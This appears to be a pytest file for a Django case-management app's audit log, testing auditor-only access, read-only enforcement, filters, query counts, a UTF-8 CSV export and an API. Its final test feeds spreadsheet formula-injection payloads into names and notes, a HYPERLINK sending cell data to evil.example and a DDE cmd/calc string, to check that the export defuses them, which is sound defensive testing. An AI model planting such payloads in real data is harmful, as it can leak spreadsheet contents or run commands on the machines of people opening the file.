"""Only auditors read the log, with filters, page by page, and export it; nobody edits it."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tsunagiai.audit.actions import record_audit_event
from tsunagiai.audit.models import AuditEvent
from tsunagiai.people.tests.factories import make_person

API = "/api/v1/audit/events"


@pytest.mark.parametrize(
    "username", ["caseworker_north", "coordinator", "supervisor_north", "admin", "analyst", "volunteer"]
)
def test_nobody_but_the_auditor_finds_the_log(client, town, username) -> None:
    client.force_login(town.users[username])
    assert client.get(reverse("audit:list")).status_code == 404
    assert client.get(reverse("audit:export")).status_code == 404
    assert client.get(API).status_code == 404


def test_the_auditor_sees_the_log_and_its_nav_entry(client, town) -> None:
    person = make_person(town)
    client.force_login(town.users["auditor"])
    response = client.get(reverse("audit:list"))
    assert response.status_code == 200
    assert str(person) in response.content.decode()
    nav = f'href="{reverse("audit:list")}"'
    assert nav in client.get(reverse("home")).content.decode()
    client.force_login(town.users["coordinator"])
    assert nav not in client.get(reverse("home")).content.decode()


def test_the_log_cannot_be_changed_through_the_app(client, town) -> None:
    client.force_login(town.users["auditor"])
    for url in (reverse("audit:list"), reverse("audit:export")):
        assert client.post(url).status_code == 405
    for method in ("post", "put", "patch", "delete"):
        assert getattr(client, method)(API).status_code in (404, 405)


def test_filters_person_user_organisation_action_and_period(client, town) -> None:
    north, south = town.users["caseworker_north"], town.users["caseworker_south"]
    mine = make_person(town, family_name="北野")
    theirs = make_person(town, family_name="南田", acting_user=south, organisation=town.orgs["branch_south"])
    old = record_audit_event("test.old", acting_user=north)
    client.force_login(town.users["auditor"])

    def ids(**params: object) -> set[int]:
        response = client.get(reverse("audit:list"), params)
        assert response.status_code == 200
        return {event.pk for event in response.context["page"]}

    assert ids(person=mine.pk) == set(AuditEvent.objects.filter(person_id=mine.pk).values_list("pk", flat=True))
    assert ids(user=south.pk) == set(AuditEvent.objects.filter(actor=south).values_list("pk", flat=True))
    assert ids(organisation=town.orgs["branch_south"].pk) == set(
        AuditEvent.objects.filter(person_id=theirs.pk).values_list("pk", flat=True)
    )
    assert ids(action="test.") == {old.pk}
    today = old.occurred_at.astimezone().date()
    assert old.pk in ids(date_from=today.isoformat(), date_to=today.isoformat())
    assert ids(date_to=(today - dt.timedelta(days=1)).isoformat()) == set()


def test_invalid_filters_are_shown_not_a_500(client, town) -> None:
    client.force_login(town.users["auditor"])
    response = client.get(reverse("audit:list"), {"person": "abc", "date_from": "2025-02-30"})
    assert response.status_code == 200
    assert response.context["form"].errors
    assert response.context["page"].paginator.count == 0
    assert client.get(reverse("audit:export"), {"date_from": "2025-05-02", "date_to": "2025-05-01"}).status_code == 400


def _count_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_the_list_costs_the_same_queries_for_1_and_for_30_rows(client, town) -> None:
    client.force_login(town.users["auditor"])
    url = reverse("audit:list") + "?action=test.count"
    record_audit_event("test.count", acting_user=town.users["caseworker_north"])
    one = _count_queries(client, url)
    for i in range(29):
        user = town.users["caseworker_south" if i % 2 else "coordinator"]
        record_audit_event("test.count", acting_user=user, note=str(i))
    assert _count_queries(client, url) == one


def test_the_export_is_utf8_csv_with_bom_and_is_itself_audited(client, town) -> None:
    person = make_person(town, family_name="山田")
    auditor = town.users["auditor"]
    client.force_login(auditor)
    response = client.get(reverse("audit:export"), {"person": person.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0][0] == "sequence"
    assert any("山田" in cell for row in rows[1:] for cell in row)
    assert all(row[9] == str(person.pk) for row in rows[1:])
    exported = AuditEvent.objects.get(action="audit.exported")
    assert exported.actor == auditor
    assert exported.changes == {"person_id": person.pk}


def test_the_api_lists_the_log_for_auditors_with_filters(client, town) -> None:
    person = make_person(town)
    client.force_login(town.users["auditor"])
    response = client.get(API, {"person_id": person.pk})
    assert response.status_code == 200
    data = response.json()
    assert data["count"] == AuditEvent.objects.filter(person_id=person.pk).count() >= 1
    first = data["results"][0]
    assert first["person_id"] == person.pk
    assert first["actor"] == "caseworker_north"
    assert len(first["hash"]) == 64
    assert client.get(API, {"date_from": "2025-05-02", "date_to": "2025-05-01"}).status_code == 422
    assert client.get(API, {"person_id": "x"}).status_code == 422


def test_the_person_filter_finds_reads_of_their_household_and_its_cases(client, town) -> None:
    from tsunagiai.cases.tests.helpers import make_family, open_case

    family = make_family(town)
    case = open_case(town, family)
    client.force_login(town.users["caseworker_north"])
    client.get(reverse("people:household_detail", args=[family.household.pk]))
    client.get(reverse("cases:detail", args=[case.pk]))
    client.force_login(town.users["auditor"])
    page = client.get(reverse("audit:list"), {"person": family.son.pk})
    actions = [event.action for event in page.context["page"].object_list]
    assert "household.viewed" in actions and "case.viewed" in actions


def test_the_export_defuses_cells_excel_would_run_as_formulas(client, town) -> None:
    """A name or a break-the-glass reason that starts with = + - @ must not become a formula in Excel."""
    person = make_person(town, family_name='=HYPERLINK("http://evil.example/?"&A1,"開く")', given_name="花子")
    record_audit_event(
        "emergency.access_started",
        acting_user=town.users["caseworker_north"],
        obj=person,
        note="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    record_audit_event("test.signs", acting_user=town.users["caseworker_north"], obj=person, note="-2+3")
    record_audit_event("test.signs", acting_user=town.users["caseworker_north"], obj=person, note="+81 90")
    client.force_login(town.users["auditor"])
    response = client.get(reverse("audit:export"), {"person": person.pk})
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert "'=HYPERLINK(" in "".join(cells)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert {"'-2+3", "'+81 90"} <= set(cells)
    assert str(person.pk) in cells  # numbers stay numbers
